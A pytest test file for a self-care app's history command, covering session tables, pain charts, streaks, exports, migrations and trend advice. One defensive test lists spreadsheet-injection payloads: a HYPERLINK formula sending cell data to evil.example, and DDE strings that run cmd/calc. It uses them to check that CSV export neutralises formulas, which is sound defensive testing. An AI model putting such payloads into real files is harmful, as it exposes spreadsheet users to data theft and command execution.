"""`selfcare history`: table, chart, adherence, filters, exports; next-morning and trend checks."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from rich.cells import cell_len

from conftest import Cli
from selfcare.commands.history import pain_cell
from selfcare.history.charts import pain_chart
from selfcare.history.migrations import MIGRATIONS, SCHEMA_VERSION
from selfcare.history.mornings import pending_next_morning
from selfcare.history.record import SessionRecord
from selfcare.history.safety_answers import safety_state
from selfcare.history.store import HistoryError, connect, query_sessions
from selfcare.history.trends import (
    SessionPoint,
    TrendNote,
    current_streak,
    pain_trend,
    stabilising_was_enough,
)
from selfcare.paths import database_path
from selfcare.safety.periodic import SafetyItem
from selfcare.session.outcomes import Ending, LoosenOutcome

NOW = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)


def add_session(
    db: sqlite3.Connection,
    started: datetime,
    routine: str = "low-back",
    before: int | None = 3,
    after: int | None = 2,
    loosen: str | None = "done",
    status: str = "completed",
    minutes: int = 15,
) -> int:
    cursor = db.execute(
        "INSERT INTO sessions (routine, routine_title, lang, started_at, ended_at, status,"
        " planned_seconds, pain_before, pain_after, loosen)"
        " VALUES (?, ?, 'en', ?, ?, ?, 900, ?, ?, ?)",
        (
            routine,
            routine,
            started.isoformat(timespec="seconds"),
            (started + timedelta(minutes=minutes)).isoformat(timespec="seconds"),
            status,
            before,
            after,
            loosen,
        ),
    )
    assert cursor.lastrowid is not None
    db.execute(
        "INSERT INTO steps (session_id, step_index, step, phase, status, seconds, ended_at)"
        " VALUES (?, 0, 'drawing-in', 'stabilize', 'done', 60, ?)",
        (cursor.lastrowid, started.isoformat()),
    )
    return cursor.lastrowid


@pytest.fixture
def db(selfcare_home: Path) -> sqlite3.Connection:
    return connect(database_path(selfcare_home))


def test_no_sessions_yet_says_how_to_start_one(cli: Cli) -> None:
    result = cli("history")
    assert result.exit_code == 0
    assert "No sessions yet" in result.stdout and "selfcare start low-back" in result.stdout
    assert json.loads(cli("history", "--json").stdout) == []


def test_table_shows_pain_direction_loosening_and_status(cli: Cli, db: sqlite3.Connection) -> None:
    add_session(db, datetime.now(UTC) - timedelta(days=2), before=5, after=3, loosen="skipped")
    add_session(db, datetime.now(UTC) - timedelta(days=1), before=2, after=4, loosen="stopped")
    result = cli("history")
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "Recent sessions" in out
    assert "5 → 3" in out and "2 → 4" in out
    assert "not needed" in out and "made worse" in out
    assert "completed" in out and "15 min" in out
    assert "duration" in out  # the whole session, questions and pauses included


def test_table_shows_the_pain_before_loosening_between_before_and_after(
    cli: Cli, db: sqlite3.Connection
) -> None:
    stopped = add_session(db, datetime.now(UTC) - timedelta(days=1), before=2, after=None)
    db.execute("UPDATE sessions SET pain_mid = 4, status = 'stopped' WHERE id = ?", (stopped,))
    done = add_session(db, datetime.now(UTC) - timedelta(hours=2), before=4, after=2)
    db.execute("UPDATE sessions SET pain_mid = 3 WHERE id = ?", (done,))
    add_session(db, datetime.now(UTC) - timedelta(hours=1), before=1, after=3, loosen="skipped")
    out = cli("history").stdout
    assert "2 → 4 → –" in out and "4 → 3 → 2" in out and "1 → 3" in out


def test_pain_cell_is_coloured_by_before_and_after_only() -> None:
    assert pain_cell(4, 6, 2).style == "green"  # lower at the end, though higher before loosening
    assert pain_cell(2, 1, 4).style == "red"
    assert pain_cell(2, 4, None).style == "dim" and pain_cell(2, 4, None).plain == "2 → 4 → –"
    assert pain_cell(3, None, 3).plain == "3 → 3" and pain_cell(3, None, 3).style == ""


@pytest.mark.parametrize("width", [30, 40, 57, 80, 100, 123])
@pytest.mark.parametrize("count", [1, 2, 3, 9, 40, 200])
def test_the_chart_and_its_dates_fit_the_console(width: int, count: int) -> None:
    from rich.console import Console

    points = [
        SessionPoint(NOW - timedelta(days=count - i), 3 + i % 3, 2, None, Ending.COMPLETED)
        for i in range(count)
    ]
    screen = io.StringIO()
    console = Console(file=screen, width=width, color_system=None)
    console.print(pain_chart(points, width, "low-back"))
    lines = screen.getvalue().splitlines()
    assert all(cell_len(line.rstrip()) <= width for line in lines)
    axis = next(line for line in lines if "└" in line)
    dates = lines[lines.index(axis) + 1]
    widest = max(cell_len(line.rstrip()) for line in lines if line is not dates)
    assert cell_len(dates.rstrip()) <= max(widest, cell_len(axis.rstrip()) + 4)
    assert re.search(r"\d\d-\d\d", dates)  # the first session is always dated
    assert all(len(label) == 5 for label in dates.split())  # no label cut short


def test_chart_draws_one_mark_per_session_with_dates_on_the_axis(
    cli: Cli, db: sqlite3.Connection
) -> None:
    first = datetime.now(UTC) - timedelta(days=3)
    add_session(db, first, before=7, after=4)
    add_session(db, first + timedelta(days=1), before=6, after=6)
    out = cli("history").stdout
    lines = out.splitlines()
    row = {
        int(line.split("│")[0]): line.split("│")[1]
        for line in lines
        if "│" in line and line.split("│")[0].strip().isdigit()
    }
    assert row[7].count("○") == 1 and row[4].count("●") == 1
    assert row[6].count("◉") == 1  # before and after the same
    assert first.astimezone().strftime("%m-%d") in out
    assert "○ before  ● after" in out


def test_adherence_shows_weekly_bars_streak_and_stabilising_enough(
    cli: Cli, db: sqlite3.Connection
) -> None:
    now = datetime.now(UTC)
    for days_ago in (0, 1, 2):
        add_session(db, now - timedelta(days=days_ago, minutes=30), loosen="skipped")
    add_session(db, now - timedelta(days=5), loosen="done")
    # neither of these reached a verdict on loosening, so neither counts
    add_session(db, now - timedelta(days=6), loosen=None, status="stopped")
    add_session(db, now - timedelta(days=7), loosen="skipped", status="aborted")
    out = cli("history").stdout
    assert "Sessions per week (last 8 weeks)" in out
    assert "█" in out
    assert "Current streak: 3 days in a row" in out
    assert "Stabilising alone was enough in 3 of 4 sessions" in out


def test_a_one_day_streak_reads_naturally_and_an_unasked_loosening_is_not_counted(
    cli: Cli, db: sqlite3.Connection
) -> None:
    add_session(db, datetime.now(UTC) - timedelta(minutes=30), loosen=None, status="aborted")
    out = cli("history").stdout
    assert "Current streak: 1 day in a row" in out and "day(s)" not in out
    assert "Stabilising alone" not in out  # no completed session asked about loosening
    ja = cli("history", "--lang", "ja").stdout
    assert "連続 1 日" in ja and "所要時間" in ja


def test_filters_by_routine_since_and_limit(cli: Cli, db: sqlite3.Connection) -> None:
    add_session(db, datetime(2026, 1, 5, 9, tzinfo=UTC), routine="low-back")
    add_session(db, datetime(2026, 3, 5, 9, tzinfo=UTC), routine="low-back-quick")
    add_session(db, datetime(2026, 4, 5, 9, tzinfo=UTC), routine="low-back")
    only_quick = json.loads(cli("history", "--json", "--routine", "low-back-quick").stdout)
    assert [s["routine"] for s in only_quick] == ["low-back-quick"]
    since = json.loads(cli("history", "--json", "--since", "2026-03-01").stdout)
    assert len(since) == 2
    limited = json.loads(cli("history", "--json", "--limit", "1").stdout)
    assert len(limited) == 1 and limited[0]["started_at"].startswith("2026-04-05")


def test_a_bad_since_date_is_a_clear_error(cli: Cli) -> None:
    result = cli("history", "--since", "last week")
    assert result.exit_code == 1
    assert "--since must be a date" in result.stderr


def test_json_export_has_stable_keys_newest_first(cli: Cli, db: sqlite3.Connection) -> None:
    add_session(db, datetime(2026, 1, 5, 9, tzinfo=UTC))
    add_session(db, datetime(2026, 1, 6, 9, tzinfo=UTC), before=None, after=None)
    sessions = json.loads(cli("history", "--json").stdout)
    assert [s["started_at"][:10] for s in sessions] == ["2026-01-06", "2026-01-05"]
    expected = {
        "id",
        "routine",
        "status",
        "started_at",
        "ended_at",
        "pain_before",
        "pain_mid",
        "pain_after",
        "steps_completed",
        "steps_skipped",
        "loosen",
        "stop_reason",
        "next_morning",
        "duration_seconds",
        "steps",
    }
    assert expected <= set(sessions[0])
    assert sessions[0]["pain_before"] is None and sessions[1]["steps_completed"] == 1


def test_csv_export_reads_back_with_a_header_row(cli: Cli, db: sqlite3.Connection) -> None:
    add_session(db, datetime(2026, 1, 5, 9, tzinfo=UTC), routine='low-back, "quoted"')
    add_session(db, datetime(2026, 1, 6, 9, tzinfo=UTC), before=6, after=1)
    result = cli("history", "--csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 2
    assert rows[0]["pain_before"] == "6" and rows[0]["pain_after"] == "1"
    assert rows[1]["routine"] == 'low-back, "quoted"'
    assert rows[1]["duration_seconds"] == "900"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB",
]


def test_no_csv_cell_starts_a_spreadsheet_formula(cli: Cli, db: sqlite3.Connection) -> None:
    for day, title in enumerate(FORMULAS, start=1):
        add_session(db, datetime(2026, 1, day, 9, tzinfo=UTC), routine=title)

    result = cli("history", "--csv")

    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The text is kept, only marked as text: a leading ' that spreadsheets do not show (the
    # terminal's output turns the tab into spaces).
    assert {"'" + title for title in FORMULAS[:-1]} <= set(cells)


def test_history_in_japanese(cli: Cli, db: sqlite3.Connection) -> None:
    add_session(db, datetime.now(UTC) - timedelta(hours=3))
    out = cli("history", "--lang", "ja").stdout
    assert "最近のセッション" in out and "痛みの推移" in out and "連続 1 日" in out


# --- progress, with fixed dates ------------------------------------------------------------


def point(
    days_ago: float, before: int | None = 3, loosen: str | None = None, status: str = "completed"
) -> SessionPoint:
    outcome = None if loosen is None else LoosenOutcome(loosen)
    return SessionPoint(NOW - timedelta(days=days_ago), before, None, outcome, Ending(status))


def test_streak_counts_days_in_a_row_ending_today_or_yesterday() -> None:
    today = NOW.astimezone().date()
    assert current_streak([point(1), point(2), point(4)], today) == 2
    assert current_streak([point(3)], today) == 0
    assert stabilising_was_enough([point(1, loosen="skipped"), point(2, loosen="done")]) == (1, 2)


def test_stabilising_was_enough_counts_only_completed_sessions_that_asked() -> None:
    points = [
        point(1, loosen="skipped"),
        point(2, loosen="stopped"),
        point(3, loosen=None),  # a routine with no loosening
        point(4, loosen="skipped", status="aborted"),
        point(5, loosen=None, status="stopped"),
    ]
    assert stabilising_was_enough(points) == (1, 2)
    assert stabilising_was_enough([]) == (0, 0)
    # held back because it had made things worse lately: neither "enough" nor "needed"
    assert stabilising_was_enough([point(1, loosen="held-back"), point(2, loosen="done")]) == (
        0,
        1,
    )


def test_rising_pain_two_weeks_running_is_noticed() -> None:
    points = [point(18, before=2), point(16, before=2), point(10, before=3), point(3, before=5)]
    assert pain_trend(points, NOW) is TrendNote.RISING


def test_no_improvement_after_fourteen_days_is_noticed_and_improvement_is_not() -> None:
    flat = [point(20, before=4), point(19, before=4), point(2, before=4)]
    assert pain_trend(flat, NOW) is TrendNote.NOT_IMPROVING
    better = [point(20, before=5), point(19, before=5), point(2, before=2)]
    assert pain_trend(better, NOW) is None
    too_soon = [point(5, before=4), point(1, before=4)]
    assert pain_trend(too_soon, NOW) is None


# --- migrations ----------------------------------------------------------------------------


@pytest.mark.parametrize("version", range(SCHEMA_VERSION))
def test_every_earlier_schema_migrates_and_keeps_its_sessions(tmp_path: Path, version: int) -> None:
    path = tmp_path / "history.sqlite3"
    old = sqlite3.connect(path, isolation_level=None)
    for migration in MIGRATIONS[:version]:
        migration(old)
    old.execute(f"PRAGMA user_version = {version}")
    if version >= 1:
        old.execute(
            "INSERT INTO sessions (routine, routine_title, lang, started_at, planned_seconds)"
            " VALUES ('low-back', 'Low back', 'en', '2026-01-01T09:00:00+00:00', 900)"
        )
    old.close()
    db = connect(path)
    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert db.execute("SELECT COUNT(*) FROM sessions").fetchone()[0] == (1 if version >= 1 else 0)
    db.execute("UPDATE sessions SET pid_start = 'boot:1'")  # the newest column exists


def test_a_database_from_a_newer_version_is_refused_and_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "history.sqlite3"
    newer = sqlite3.connect(path)
    newer.execute("PRAGMA user_version = 99")
    newer.close()
    before = path.read_bytes()
    with pytest.raises(HistoryError, match="newer selfcare"):
        connect(path)
    assert path.read_bytes() == before


def test_history_command_refuses_a_newer_database_with_exit_1(
    cli: Cli, selfcare_home: Path
) -> None:
    selfcare_home.mkdir(parents=True)
    newer = sqlite3.connect(database_path(selfcare_home))
    newer.execute("PRAGMA user_version = 99")
    newer.close()
    result = cli("history")
    assert result.exit_code == 1
    assert "newer selfcare" in result.stderr


class ScriptedLines:
    def __init__(self, *lines: str) -> None:
        self.lines = list(lines)

    def read_line(self) -> str | None:
        return self.lines.pop(0) if self.lines else None


def test_start_asks_the_next_morning_question_and_advises_a_smaller_dose(
    db: sqlite3.Connection,
) -> None:
    from rich.console import Console

    from selfcare.session.prompts import Prompter
    from selfcare.session.start_checks import next_morning_check

    add_session(db, NOW - timedelta(hours=20))
    screen = io.StringIO()
    console = Console(file=screen, width=100)
    answers = Prompter(console, ScriptedLines("w", "n"))
    next_morning_check(SessionRecord(db, 0), NOW, answers, console)
    assert "How did you feel the morning after your last session" in screen.getvalue()
    assert "Was it worse after the loosening part?" in screen.getvalue()
    assert "repeat the same dose or reduce it" in screen.getvalue()
    row = db.execute("SELECT next_morning, morning_loosen FROM sessions").fetchone()
    assert tuple(row) == ("worse", "not-worse")


def test_unattended_start_asks_nothing_but_still_gives_trend_advice(
    db: sqlite3.Connection,
) -> None:
    from rich.console import Console

    from selfcare.routine.discovery import resolve
    from selfcare.session.start_checks import next_morning_check, trend_check

    for days_ago, before in ((20, 4), (19, 4), (2, 4)):
        add_session(db, NOW - timedelta(days=days_ago), before=before)
    screen = io.StringIO()
    console = Console(file=screen, width=100)
    next_morning_check(SessionRecord(db, 0), NOW, None, console)  # nobody to ask: no question
    trend_check(SessionRecord(db, 0), NOW, resolve("low-back").routine, console)
    assert "next morning" not in screen.getvalue()
    assert "After 14 days of sessions your pain has not improved" in screen.getvalue()


# --- a damaged history ------------------------------------------------------------------------


def test_values_this_version_cannot_read_are_shown_as_unknown_and_exported_as_written(
    cli: Cli, db: sqlite3.Connection
) -> None:
    odd = add_session(db, datetime.now(UTC) - timedelta(hours=3), status="paused")
    db.execute(
        "UPDATE sessions SET started_at = 'last tuesday', loosen = 'maybe' WHERE id = ?", (odd,)
    )
    add_session(db, datetime.now(UTC) - timedelta(hours=2))

    table = cli("history")
    exported = json.loads(cli("history", "--json").stdout)
    csv_text = cli("history", "--csv").stdout

    assert table.exit_code == 0, table.output
    assert "–" in table.stdout and "completed" in table.stdout
    row = next(session for session in exported if session["id"] == odd)
    assert (row["status"], row["started_at"], row["loosen"]) == ("paused", "last tuesday", "maybe")
    assert "last tuesday" in csv_text and "paused" in csv_text


def test_times_stored_without_a_zone_are_read_as_utc(cli: Cli, db: sqlite3.Connection) -> None:
    naive = (datetime.now(UTC) - timedelta(hours=5)).replace(tzinfo=None)
    db.execute(
        "INSERT INTO sessions (routine, routine_title, lang, started_at, ended_at, status,"
        " planned_seconds, pain_before, pain_after) VALUES ('low-back', 'Low back', 'en', ?, ?,"
        " 'completed', 900, 3, 2)",
        (naive.isoformat(), (naive + timedelta(minutes=15)).isoformat()),
    )
    db.execute(
        "INSERT INTO screens (taken_at, kind, result, area) VALUES (?, 'full', 'clear', ?)",
        (naive.isoformat(), "low-back"),
    )
    db.execute(
        "INSERT INTO safety_answers (session_id, area, item, answer, answered_at)"
        " VALUES (1, 'low-back', 'histories', 'none', ?)",
        (naive.isoformat(),),
    )

    state = safety_state(db, "low-back")  # what the next safety check goes by
    shown = cli("history")
    started = cli("start", "low-back", "--yes", "--plain", "--speed", "1000")

    assert state.last_full == naive.replace(tzinfo=UTC)
    assert state.answers[SafetyItem.HISTORIES].at == naive.replace(tzinfo=UTC)
    assert shown.exit_code == 0, shown.output
    assert "3 → 2" in shown.stdout
    assert started.exit_code == 0, started.output


def test_a_running_session_with_a_damaged_process_id_is_closed_not_a_crash(
    cli: Cli, db: sqlite3.Connection
) -> None:
    running = add_session(db, datetime.now(UTC) - timedelta(hours=1), status="running")
    db.execute("UPDATE sessions SET pid = 'x' WHERE id = ?", (running,))

    started = cli("start", "low-back", "--yes", "--plain", "--speed", "1000")

    assert started.exit_code == 0, started.output
    status = db.execute("SELECT status, stop_reason FROM sessions WHERE id = ?", (running,))
    assert status.fetchone()[:] == ("aborted", "killed")


# --- practice runs ---------------------------------------------------------------------------


def test_practice_runs_are_left_out_of_the_history_and_its_trends_unless_asked(
    db: sqlite3.Connection,
) -> None:
    done = add_session(db, NOW - timedelta(days=2))
    practice = add_session(db, NOW - timedelta(days=1))
    db.execute("UPDATE sessions SET speed = 10 WHERE id = ?", (practice,))

    assert [row.id for row in query_sessions(db)] == [done]
    assert [row.id for row in query_sessions(db, since=NOW - timedelta(days=30))] == [done]
    everything = query_sessions(db, include_practice=True)
    assert [row.id for row in everything] == [practice, done]
    assert [row.practice for row in everything] == [True, False]


def test_the_next_morning_question_is_never_about_a_practice_run_or_a_session_not_started(
    db: sqlite3.Connection,
) -> None:
    done = add_session(db, NOW - timedelta(hours=30), minutes=15)
    practice = add_session(db, NOW - timedelta(hours=20), minutes=15)
    db.execute("UPDATE sessions SET speed = 4 WHERE id = ?", (practice,))
    add_session(db, NOW - timedelta(hours=10), minutes=1, status="not-started")

    due = pending_next_morning(db, NOW)
    assert due is not None and due.session_id == done  # the last session a person really did


def test_history_shows_a_practice_run_only_with_all_and_marks_it(
    cli: Cli, db: sqlite3.Connection
) -> None:
    add_session(db, NOW - timedelta(days=2), routine="low-back")
    practice = add_session(db, NOW - timedelta(days=1), routine="low-back-quick")
    db.execute("UPDATE sessions SET speed = 10 WHERE id = ?", (practice,))

    plain = cli("history").stdout
    assert "low-back-quick" not in plain and "low-back" in plain
    everything = cli("history", "--all").stdout
    assert "low-back-quick" in everything and "practice ×10" in everything
    assert [row["speed"] for row in json.loads(cli("history", "--json").stdout)] == [1]
